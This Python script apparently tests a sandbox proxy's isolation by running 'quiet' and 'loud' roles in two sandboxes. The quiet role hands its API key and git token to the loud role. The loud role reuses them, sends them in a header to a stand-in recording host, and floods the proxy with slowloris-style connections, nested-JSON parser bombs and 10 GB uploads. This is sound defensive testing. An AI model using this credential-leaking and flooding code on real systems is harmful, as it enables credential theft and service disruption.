"""Runs inside two sandboxes at once: `quiet` measures its own requests, `loud` does what it can to be in its way.

Prints JSON. Standard library only. The two meet at an upstream that lets them wait for each other; beyond that they
know nothing of each other, but what `quiet` tells `loud` as somebody who is in league with it.
"""

import base64
import contextlib
import http.client
import json
import os
import re
import select
import selectors
import socket
import ssl
import statistics
import sys
import threading
import time

BULK, PLAIN, SINK = (f"{name}.demo.example" for name in ("bulk", "plain", "sink"))
MODEL, GIT, RECORD = "api.anthropic.com", "git.demo.example", "record.demo.example"
THEIRS = "known-to-the-quiet-one.example"
CONNECTIONS = 10_000
BUSY = 200
JUDGES = 4
SAMPLES = 15
MIB = 1024 * 1024


class Gate:
    """One connection, opened before the floods, over which the two sandboxes wait for each other."""

    def __init__(self):
        self.connection = http.client.HTTPConnection(PLAIN, timeout=60)
        self.connection.connect()

    def ask(self, what, name):
        self.connection.request("GET", f"/{what}/{name}")
        answer = self.connection.getresponse()
        word = answer.read().decode()
        if answer.status != 200:
            raise RuntimeError(f"{what} {name}: {answer.status}")
        return word


# -- the quiet one ---------------------------------------------------------------------------------------


def one_request():
    """Milliseconds of a whole request: a new connection, TLS, an upstream connection of its own."""
    begun = time.monotonic()
    with (
        socket.create_connection((BULK, 443), timeout=50) as raw,
        CONTEXT.wrap_socket(raw, server_hostname=BULK) as client,
    ):
        client.sendall(f"GET /small HTTP/1.1\r\nHost: {BULK}\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while part := client.recv(4096):
            answer += part
    if not answer.startswith(b"HTTP/1.1 200"):
        raise RuntimeError(answer[:200])
    return (time.monotonic() - begun) * 1000


def measure():
    times = [one_request() for _ in range(SAMPLES)]
    return {"median": round(statistics.median(times), 1), "slowest": round(max(times), 1)}


def quiet():
    gate = Gate()
    measure()
    found = {"alone": measure()}
    told = [os.environ["ANTHROPIC_API_KEY"], os.environ["DEMO_GIT_TOKEN"], socket.gethostbyname(THEIRS)]
    gate.ask("signal", f"alone/{' '.join(told).encode().hex()}")
    gate.ask("wait", "held")
    found["beside_idle"] = measure()
    gate.ask("signal", "seen-held")
    gate.ask("wait", "busy")
    try:
        found["beside_busy"] = measure()
    finally:
        gate.ask("signal", "done")
    return found


# -- the loud one ----------------------------------------------------------------------------------------


def hold(address, index):
    """A connection that says nothing, half a ClientHello, or a body that hardly comes."""
    client = socket.socket()
    client.settimeout(10)
    client.connect((address, 443 if index % 3 == 1 else 80))
    if index % 3 == 1:
        client.send(b"\x16\x03\x01\x02\x00\x01\x00")
    elif index % 3 == 2:
        client.send(f"POST /upload HTTP/1.1\r\nHost: {PLAIN}\r\nContent-Length: 1000000\r\n\r\nx".encode())
    client.setblocking(False)
    return client


def ten_thousand(held):
    """How many of ten thousand connections stay open, and how long it took until the others were refused."""
    address, refused, begun = socket.gethostbyname(PLAIN), 0, time.monotonic()
    poller = select.poll()

    def sweep(milliseconds):
        gone = 0
        for descriptor, _ in poller.poll(milliseconds):
            poller.unregister(descriptor)
            held.pop(descriptor).close()
            gone += 1
        return gone

    for index in range(CONNECTIONS):
        try:
            client = hold(address, index)
        except (ConnectionResetError, BrokenPipeError):
            refused += 1
            continue
        held[client.fileno()] = client
        poller.register(client, select.POLLIN)
        if len(held) > 500:
            refused += sweep(100)
    last = sweep(1000)
    while last:
        refused += last
        last = sweep(300)
    return {"held": len(held), "refused": refused, "seconds": round(time.monotonic() - begun, 2)}


def judged(until):
    """Bodies that have to be parsed, over and over."""
    body = b'{"query": "{users{id}}", "variables": {"a": [' + b"[]," * 300_000 + b"0]}}"
    head = f"POST /graphql HTTP/1.1\r\nHost: {GIT}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    while not until.is_set():
        with contextlib.suppress(OSError), socket.create_connection((GIT, 443), timeout=20) as raw:
            with CONTEXT.wrap_socket(raw, server_hostname=GIT) as client:
                client.sendall(head.encode() + body)
                client.recv(65536)


def busy(until):
    """Downloads, uploads and requests over many connections, as fast as they go."""
    address, picker = socket.gethostbyname(PLAIN), selectors.DefaultSelector()
    upload = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    ask = f"GET /small HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n".encode() * 20
    moved = 0
    for index in range(BUSY):
        client = socket.create_connection((address, 80), timeout=20)
        client.setblocking(False)
        head, again = {
            0: (f"GET /big HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n".encode(), b""),
            1: (
                f"POST /upload HTTP/1.1\r\nHost: {PLAIN}\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
                upload,
            ),
        }.get(index % 4, (ask, ask))
        client.send(head)
        picker.register(
            client, selectors.EVENT_READ | (selectors.EVENT_WRITE if again else 0), [again, again]
        )
    while not until.is_set():
        for key, events in picker.select(0.2):
            try:
                if events & selectors.EVENT_READ and not key.fileobj.recv(MIB):
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    rest = key.data[0] or key.data[1]
                    sent = key.fileobj.send(rest)
                    key.data[0] = rest[sent:]
                    moved += sent
            except BlockingIOError:
                pass
            except OSError:
                picker.unregister(key.fileobj)
                key.fileobj.close()
    lost = BUSY - len(picker.get_map())
    for key in tuple(picker.get_map().values()):
        key.fileobj.close()
    return {"lost": lost, "sent_mib": moved // MIB}


def pour(*framing, chunked):
    """Ten gigabytes to a host that is allowed: what the answer is, and how much was taken."""
    with socket.create_connection((SINK, 80), timeout=20) as client:
        client.sendall("\r\n".join(["POST /upload HTTP/1.1", f"Host: {SINK}", *framing, "", ""]).encode())
        block = b"x" * MIB
        part = b"%x\r\n%s\r\n" % (len(block), block) if chunked else block
        sent = 0
        try:
            while sent < 1024 * MIB:
                client.sendall(part)
                sent += len(block)
        except OSError:
            pass
        try:
            answer = client.recv(65536).decode("latin-1")
        except OSError:
            answer = ""
    status = answer.split(" ")[1] if answer.startswith("HTTP/") else "cut"
    return status if sent < 512 * MIB else f"took {sent // MIB} MiB"


def first_answer(client):
    """Head and body of an answer that has a length; what came until then if it ends early."""
    answer = b""
    while True:
        head, found, body = answer.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)\ncontent-length: *(\d+)", head)
        if found and (length is None or len(body) >= int(length[1])):
            return answer
        data = client.recv(65536)
        if not data:
            return answer
        answer += data


def verdict(data, name, port=443):
    """The status, and the obstacle of a refusal of ours."""
    with socket.create_connection((name, port), timeout=20) as raw:
        with CONTEXT.wrap_socket(raw, server_hostname=name) if port == 443 else raw as client:
            client.sendall(data)
            answer = first_answer(client).decode("latin-1")
    obstacle = re.search(r'"obstacle": "([a-z-]+)"', answer)
    return f"{answer.split(' ')[1]} {obstacle[1] if obstacle else ''}".strip()


def borrowed(key, token):
    """What another sandbox's surrogates are worth here."""
    body = json.dumps(
        {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": key}]}
    ).encode()
    head = f"POST /v1/messages HTTP/1.1\r\nHost: {MODEL}\r\nConnection: close\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    push = f"GET /demo.git/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: {GIT}\r\nConnection: close\r\nAuthorization: Basic {basic}\r\n\r\n"
    note = f"GET /borrowed HTTP/1.1\r\nHost: {RECORD}\r\nConnection: close\r\nX-Note: the key {key} and the token {token}\r\n\r\n"
    return {
        "borrowed_key": verdict(head.encode() + body, MODEL),
        "borrowed_token": verdict(push.encode(), GIT),
        "borrowed_note": verdict(note.encode(), RECORD),
    }


def loud():
    gate, held = Gate(), {}
    key, token, address = bytes.fromhex(gate.ask("wait", "alone")).decode().split()
    found = borrowed(key, token)
    found["borrowed_address"] = verdict(
        f"GET / HTTP/1.1\r\nHost: {THEIRS}\r\nConnection: close\r\n\r\n".encode(), address, port=80
    )
    try:
        found["connections"] = ten_thousand(held)
        gate.ask("signal", "held")
        gate.ask("wait", "seen-held")
    finally:
        for client in held.values():
            client.close()
    over = threading.Event()
    floods = [threading.Thread(target=lambda: found.update(busy=busy(over)))]
    floods += [threading.Thread(target=judged, args=(over,)) for _ in range(JUDGES)]
    for flood in floods:
        flood.start()
    try:
        time.sleep(2)
        gate.ask("signal", "busy")
        gate.ask("wait", "done")
    finally:
        over.set()
        for flood in floods:
            flood.join()
    found["ten_gigabytes_known"] = pour("Content-Length: 10000000000", chunked=False)
    found["ten_gigabytes_chunked"] = pour("Transfer-Encoding: chunked", chunked=True)
    return found


CONTEXT = ssl.create_default_context()
print(json.dumps({"quiet": quiet, "loud": loud}[sys.argv[1]]()))
